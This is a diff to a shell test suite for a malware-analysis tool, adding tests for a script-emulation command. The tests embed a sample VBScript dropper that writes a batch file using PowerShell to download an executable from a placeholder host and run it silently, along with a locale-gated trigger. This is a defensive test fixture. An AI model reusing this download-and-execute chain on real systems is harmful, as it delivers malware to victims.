@@ -92,7 +92,48 @@ expect 0 "" "$sekisho" explain vba.autostart
 expect 0 "" "$sekisho" explain --lang ja vba.autostart
 grep -q 'マクロ' "$work/out" || fail "explain --lang ja is not Japanese"
 for what in kinds evidence limits formats detectors facts deviations verdicts output; do expect 0 "" "$sekisho" list "$what"; done
-for command in scan extract explain list; do expect 0 "" "$sekisho" "$command" --help; done
+for command in scan emulate extract explain list; do expect 0 "" "$sekisho" "$command" --help; done
+
+# emulate: effects in order with their place, layers, the environment, the trace; one line for each mistake
+cat >"$work/chain.vbs" <<'END'
+Set fso = CreateObject("Scripting.FileSystemObject")
+Set sh = CreateObject("WScript.Shell")
+t = sh.ExpandEnvironmentStrings("%TEMP%")
+Set f = fso.CreateTextFile(t & "\b.bat", True)
+f.WriteLine "powershell -Command ""(New-Object Net.WebClient).DownloadFile('http://files.example/x','%TEMP%\q.exe')"""
+f.WriteLine "%TEMP%\q.exe /s"
+f.Close
+sh.Run t & "\b.bat", 0, True
+If GetLocale() = 1041 Then sh.Run "calc " & Day(Now)
+END
+expect 1 "" "$sekisho" emulate "$work/chain.vbs"
+grep -q 'line 8 *run ' "$work/out" || fail "emulate does not show the line of a start"
+grep -q '^ *script.powershell  powershell -Command' "$work/out" || fail "emulate does not show the layers"
+grep -q 'network' "$work/out" || fail "the start of a fetched file is not seen"
+grep -q 'Script: ' "$work/out" && fail "emulate traces unasked"
+expect 1 "" "$sekisho" emulate --trace --env locale=ja-JP --env now=2020-10-14 --env %TEMP%='D:\tmp' "$work/chain.vbs"
+grep -q 'calc 14' "$work/out" || fail "locale and clock of --env are not seen"
+grep -qF 'D:\tmp\q.exe' "$work/out" || fail "a variable of --env is not seen"
+grep -qF 't = sh.ExpandEnvironmentStrings("%TEMP%") -> D:\tmp' "$work/out" || fail "the trace has no values"
+expect 1 "" "$sekisho" emulate --format json --trace "$work/chain.vbs"
+/usr/bin/python3 -c 'import json, sys; r = json.load(open(sys.argv[1])); assert r["trace"] and r["effects"][0]["line"] == 7, r["effects"][0]' "$work/out" ||
+    fail "emulate --format json is wrong"
+expect 1 "" "$sekisho" emulate --lang ja "$work/chain.vbs"
+grep -q '8行' "$work/out" || fail "emulate --lang ja is not Japanese"
+expect 0 "" "$sekisho" emulate "$clean"
+expect 2 "No such file" "$sekisho" emulate "$work/not-there"
+expect 3 "needs a file" "$sekisho" emulate
+expect 3 "takes a language and a country" "$sekisho" emulate --env locale=x "$clean"
+expect 3 "takes a date" "$sekisho" emulate --env now=tomorrow "$clean"
+expect 3 "has no 'colour'" "$sekisho" emulate --env colour=red "$clean"
+expect 3 "--env takes NAME=VALUE" "$sekisho" emulate --env locale "$clean"
+expect 3 "--steps takes a number" "$sekisho" emulate --steps many "$clean"
+expect 3 "takes 1000 to" "$sekisho" emulate --steps 1 "$clean"
+expect 3 "text and json, not 'html'" "$sekisho" emulate --format html "$clean"
+expect 3 "could not be written" sh -c "\"\$1\" emulate \"\$2\" >/dev/full" sh "$sekisho" "$work/chain.vbs"
+printf 'Do\r\nx = x + 1\r\nLoop\r\n' >"$work/endless.vbs"
+"$sekisho" emulate --steps 5000 --kind script.vbscript "$work/endless.vbs" >"$work/out" 2>&1
+grep -q 'emulate.steps' "$work/out" || fail "the limit of steps is not told"
 
 # every truncation of a mail, and hostile names, end in a verdict
 size=$(wc -c <"$clean")
